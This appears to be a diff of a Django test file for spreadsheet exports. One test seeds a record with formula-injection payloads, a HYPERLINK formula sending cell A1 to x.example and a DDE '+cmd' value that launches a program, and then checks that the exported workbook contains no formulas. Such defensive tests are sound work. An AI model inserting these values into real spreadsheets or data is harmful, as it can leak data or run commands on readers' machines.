@@ -1,7 +1,6 @@
 """Every list can be taken along, by those who may read its page, and says no more than the page."""
 
 import re
-from contextlib import closing
 from datetime import date
 from io import BytesIO
 
@@ -13,7 +12,8 @@ from django.test.utils import CaptureQueriesContext
 from openpyxl import load_workbook
 
 from hospes.core.sheets import as_typed
-from hospes.exports import register, views
+from hospes.exports import register
+from hospes.exports.views import tables as views
 from hospes.journal.models import JournalLine
 from hospes.matchmaking.actions import terms
 from hospes.people.choices import PartnershipRole
@@ -51,8 +51,8 @@ def test_headings_are_in_the_readers_language_unless_codes_are_wanted(client: Cl
 def test_a_workbook_holds_the_same_and_no_formula(client: Client) -> None:
     OrganisationFactory(name='=HYPERLINK("http://x.example/?"&A1)', town="+cmd|' /C calc'!A0")
 
-    with closing(client.get("/lists/organisations.xlsx")) as answer:
-        sheet = load_workbook(BytesIO(b"".join(answer.streaming_content))).active
+    answer = client.get("/lists/organisations.xlsx")
+    sheet = load_workbook(BytesIO(b"".join(answer.streaming_content))).active
 
     cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
     assert {cell.data_type for cell in cells} <= {"s", "n", "b", "d"}
@@ -162,8 +162,8 @@ def test_the_number_of_queries_does_not_grow_with_the_rows(client: Client) -> No
 
 
 def test_a_name_of_a_file_is_plain_and_says_the_day(client: Client) -> None:
-    with closing(client.get("/de/lists/entries.xlsx")) as answer:
-        pass
+    answer = client.get("/de/lists/entries.xlsx")
+    assert b"".join(answer.streaming_content).startswith(b"PK")
 
     day = date.today().isoformat()
     assert answer["Content-Disposition"] == f'attachment; filename="entries-{day}.xlsx"'
